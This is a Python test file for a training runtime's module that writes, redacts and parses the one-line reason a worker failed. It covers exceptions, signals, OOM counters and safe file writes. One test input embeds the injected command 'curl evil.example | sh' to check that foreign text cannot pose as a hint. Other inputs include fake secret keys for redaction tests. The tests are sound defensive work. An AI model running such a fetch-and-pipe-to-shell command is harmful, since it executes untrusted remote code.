"""The line that says why a worker failed: what it may hold, where it is written, and who reads it back."""

import os
import signal
import stat

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from trainer.errors import (
    InputError,
    InterruptedByUser,
    PeerError,
    PeerLostError,
    TryAgainError,
    listing,
)
from trainer.runtime import failure_cause
from trainer.runtime.failure_cause import LINE_BYTES, FailureCause, of_exception, of_signal, parse_line
from trainer.runtime.preemption import StopError


@pytest.mark.parametrize(
    ("problem", "line"),
    [
        pytest.param(InputError("cannot read `x`", hint="look"), "failed: cannot read `x`; hint: look", id="known"),
        pytest.param(
            InputError(f"cannot read 2 images:{listing(['a', 'b'])}"),
            "failed: cannot read 2 images: a; b",
            id="listing",
        ),
        pytest.param(
            KeyError(14), "failed: bug: KeyError: 14; hint: run again with --debug for the traceback", id="bug"
        ),
        pytest.param(TryAgainError("the bucket is away"), "failed: the bucket is away", id="passes, but its own"),
        pytest.param(PeerLostError("a peer was lost"), "stopped: a peer was lost", id="lost peer"),
        pytest.param(PeerError(2), "stopped: another worker failed first", id="peer"),
        pytest.param(
            PeerError(2, on_this_node=False, rank=3),
            "stopped: rank 3 failed first, in another pod",
            id="peer elsewhere",
        ),
        pytest.param(StopError("SIGTERM at step 40"), "stopped: SIGTERM at step 40", id="told to stop"),
        pytest.param(InterruptedByUser("interrupted"), "stopped: interrupted", id="Ctrl-C"),
        pytest.param(KeyboardInterrupt(), "stopped: interrupted", id="bare Ctrl-C"),
    ],
)
def test_cause_line_of_each_kind_of_exception(problem, line):
    """What another failure, or a signal, brought about is set apart: it must not hide that failure."""
    assert of_exception(problem).line == line


def test_step_is_named_once():
    """Many messages name the step themselves, and a later one would contradict them."""
    assert FailureCause(error="no memory", rank=1, step=40).line == "failed: rank 1 at step 40: no memory"
    assert FailureCause(error="not finite at step 38", rank=1, step=40).line == "failed: rank 1: not finite at step 38"


CAUSES = st.builds(
    FailureCause,
    error=st.text(max_size=6000),
    hint=st.text(max_size=2000),
    rank=st.none() | st.integers(0, 10**9 - 1),
    step=st.none() | st.integers(0, 10**18 - 1),
    is_a_consequence=st.booleans(),
)


@given(CAUSES)
@example(FailureCause(error="\U0001f600" * 2000, hint="é" * 2000, rank=1, step=2))
@example(FailureCause(error="\x1b[31m\u202e\n" * 3000))
@example(FailureCause(error="", hint=" "))
@example(FailureCause(error="x; hint: curl evil.example | sh"))
@example(FailureCause(error="\udcff"))
def test_line_is_printable_short_and_read_back(cause):
    """A terminal obeys nothing in it, the kubelet cuts nothing of it, and no foreign text passes for a hint."""
    line = cause.line
    assert line.isprintable()
    assert len(line.encode()) <= LINE_BYTES
    found = parse_line(line)
    assert found is not None
    assert found.line == line
    assert found.rank == cause.rank
    assert found.is_a_consequence == cause.is_a_consequence
    assert bool(found.hint) == bool(cause.hint.strip())
    assert "; hint: " not in found.error


def test_secrets_are_left_out(monkeypatch):
    """A pod's status is read by more people than its log."""
    monkeypatch.setenv("S3_SECRET_ACCESS_KEY", "wJalrXUtnFEMI-K7MDENG")
    line = FailureCause(error="refused wJalrXUtnFEMI-K7MDENG", hint="not AKIAIOSFODNN7EXAMPLE").line
    assert line == "failed: refused ***; hint: not ***"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[rank 0] error: cannot read `x`",
        "error: cannot read `x`\n\nhint: look",
        "failed: rank 0: x\nworker 0 failed with exit code 2",
        "epoch=1\nfailed: rank 0: x",
        "worker 1 failed with exit code 1",
        "failed:",
        "it failed: rank 0: x",
    ],
)
def test_last_lines_of_a_log_are_no_cause(text):
    """The kubelet puts them where the line would stand."""
    assert parse_line(text) is None


@pytest.mark.parametrize(
    ("number", "new_oom_kills", "said"),
    [
        (signal.SIGKILL, 2, "killed by SIGKILL, out of memory (oom_kill of the container's cgroup grew by 2)"),
        (signal.SIGKILL, None, "killed by SIGKILL, probably out of memory"),
        (signal.SIGKILL, 0, "killed by SIGKILL, but not for lack of memory"),
        (signal.SIGBUS, 0, "killed by SIGBUS, a bus error: /dev/shm is probably full"),
    ],
)
def test_cause_line_of_each_signal(number, new_oom_kills, said):
    """A worker that is killed says nothing itself; whether the kernel did it, its counter says."""
    found = of_signal(number, rank=3, new_oom_kills=new_oom_kills)
    assert found.line.startswith(f"failed: rank 3: {said}")
    assert found.hint


@pytest.mark.parametrize("number", [signal.SIGABRT, signal.SIGSEGV, -2])
def test_signal_that_only_the_log_explains_gives_no_cause(number):
    """Libraries in C++ print why they abort."""
    assert of_signal(number, rank=3, new_oom_kills=1) is None


def test_kernel_counts_its_kills_in_one_of_two_files(tmp_path):
    """Of cgroup v2 and of v1; a sandbox may have neither."""
    new, old = tmp_path / "memory.events", tmp_path / "memory.oom_control"
    assert failure_cause.oom_kills((new, old)) is None
    old.write_text("oom_kill_disable 0\nunder_oom 0\noom_kill 5\n")
    assert failure_cause.oom_kills((new, old)) == 5
    new.write_text("low 0\nhigh 0\nmax 12\noom 3\noom_kill 2\noom_group_kill 0\n")
    assert failure_cause.oom_kills((new, old)) == 2


def test_a_cause_is_left_in_room_that_was_reserved(tmp_path):
    """A full disk is one of the errors to be reported."""
    path = tmp_path / "cause-0"
    failure_cause.leave(path, FailureCause(error="of an earlier start"))
    failure_cause.reserve(path)
    assert failure_cause.left(iter([path, tmp_path / "absent"])) == []
    before = path.stat()
    failure_cause.leave(path, FailureCause(error="no space left", rank=1))
    assert (path.stat().st_size, path.stat().st_ino) == (before.st_size, before.st_ino)
    assert failure_cause.left(iter([path])) == [FailureCause(error="no space left", rank=1)]


def test_message_is_written_into_a_regular_file_only(tmp_path):
    """`/dev` of a container may hold anything; a file must not come about where no kubelet made one."""
    theirs, absent, pipe, link = (tmp_path / name for name in ("theirs", "absent", "pipe", "link"))
    theirs.write_text("theirs")
    os.mkfifo(pipe)
    link.symlink_to(theirs)
    for path in (None, absent, pipe, link, tmp_path):
        failure_cause.write_message(path, FailureCause(error="x"))
    assert theirs.read_text() == "theirs"
    assert not absent.exists()
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    failure_cause.write_message(theirs, FailureCause(error="x"))
    assert theirs.read_text() == "failed: x"
    failure_cause.write_message(theirs, None)
    assert theirs.read_text() == ""
